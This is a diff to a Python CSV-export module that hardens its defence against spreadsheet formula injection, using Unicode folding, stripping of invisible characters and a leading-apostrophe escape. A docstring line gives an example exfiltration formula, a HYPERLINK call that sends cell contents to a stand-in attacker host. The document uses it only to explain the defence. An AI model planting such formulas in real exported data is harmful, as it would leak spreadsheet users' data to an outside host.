@@ -5,31 +5,87 @@ before looking) is read by Excel, LibreOffice and Google Sheets as a formula: a 
 as `=HYPERLINK("https://evil.example/?"&A1, "click")` would run on the user's machine. Such cells get
 a leading `'`, which spreadsheets show as text. Every field is quoted; the file is UTF-8 with a BOM
 (so Excel does not read it as cp1252) and CRLF line ends (RFC 4180).
+
+"Starts with" is judged on what the cell looks like, not on its first code point: full-width and
+other compatibility forms (`＝`, `﹢`, `－`, `＠`, `⩵`) count once NFKC folds them to ASCII, and
+invisible characters and spaces in front (U+200B, U+FEFF, U+00A0, ...) do not hide a formula.
+Only the check text is folded: the cell keeps the stranger's text as it was, with the `'` in
+front. That is enough because the `'` is then the first character whatever follows it, and a
+spreadsheet reads a cell that starts with `'` as text, so the invisible characters do not need to
+be removed from the data for the defence to work.
 """
 
 from __future__ import annotations
 
 import csv
 import io
+import re
+import unicodedata
 from collections.abc import Iterable, Mapping, Sequence
 from typing import Any
 
 from netinbox.text import clean
 
-_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# ASCII starts (after NFKC every full-width or small form is one of these), plus U+2212 MINUS
+# SIGN, which NFKC keeps (and makes of U+207B SUPERSCRIPT MINUS) and LibreOffice reads as a minus.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\u2212")
+
+# Unicode's Default_Ignorable_Code_Point set (DerivedCoreProperties.txt): characters a renderer
+# draws as nothing, so a reader sees the `=` behind them. Every format character (category Cf,
+# which adds e.g. U+FFF9-FFFB and the Arabic prepended marks) is removed as well, in `_visible`.
+# Removing too much from the check text only adds a harmless `'`; removing too little lets a
+# formula through, so the set errs on the wide side.
+_IGNORABLE = re.compile(
+    "[\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u202a-\u202e"
+    "\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufff8"
+    "\U0001bca0-\U0001bca3\U0001d173-\U0001d17a\U000e0000-\U000e0fff]"
+)
+
+
+def _visible(text: str) -> str:
+    text = _IGNORABLE.sub("", text)
+    if any(unicodedata.category(c) == "Cf" for c in text):
+        text = "".join(c for c in text if unicodedata.category(c) != "Cf")
+    return text
+
+
+def looks_like_formula(text: str) -> bool:
+    """Would a spreadsheet (or a reader) take this cell for a formula?
+
+    Both orders of folding are checked, and the raw text too: NFKC can also hide a start, as in
+    "=" followed by U+0338, which composes to "≠" although a spreadsheet sees the "=".
+    """
+    if text.isascii():  # the common case: nothing to fold, nothing invisible
+        return text.startswith(_FORMULA_START) or text.lstrip().startswith(_FORMULA_START)
+    visible = _visible(text)
+    for candidate in (
+        visible,
+        _visible(unicodedata.normalize("NFKC", visible)),
+        _visible(unicodedata.normalize("NFKC", text)),
+    ):
+        if candidate.startswith(_FORMULA_START) or candidate.lstrip().startswith(_FORMULA_START):
+            return True
+    return False
 
 
 def neutralise(value: Any) -> str:
-    """One cell as safe text: lists joined with '; ', None as '', formulas defused."""
+    """One cell as safe text: lists joined with '; ', None as '', formulas defused.
+
+    Integers are netinbox's own figures (days waiting can be negative when a note is dated in the
+    future) and stay numbers: "-3" from int(-3) cannot carry a formula. Text, including text that
+    looks like a number, is a stranger's and is always checked.
+    """
     if value is None:
         text = ""
     elif isinstance(value, bool):
         text = "yes" if value else "no"
+    elif isinstance(value, int):
+        return str(value)
     elif isinstance(value, list | tuple):
         text = "; ".join(clean(v) for v in value)
     else:
         text = clean(value)
-    if text.startswith(_FORMULA_START):
+    if looks_like_formula(text):
         return "'" + text
     return text
 
